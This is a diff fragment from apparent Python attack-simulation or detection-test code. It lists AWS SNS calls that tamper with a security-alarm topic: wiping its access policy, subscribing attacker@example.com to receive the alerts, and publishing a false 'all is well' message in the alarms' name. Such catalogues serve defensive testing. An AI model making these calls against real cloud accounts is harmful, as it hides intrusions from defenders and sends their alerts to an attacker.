@@ -206,7 +206,7 @@ QUIET: list[Way] = [
         {"TopicArn": TOPIC, "AttributeName": "Policy", "AttributeValue": "{}"},
     ),
     ("execution", "sns", "subscribe", {"TopicArn": TOPIC, "Protocol": "email", "Endpoint": "attacker@example.com"}),
-    # Send own texts to the recipients of the security alarms, in the name of these.
+    # Send any text to the recipients of the security alarms, in the alarms' name.
     *(
         (who, "sns", "publish", {"TopicArn": TOPIC, "Message": "all is well"})
         for who in ("cicd", "running", "verifying")
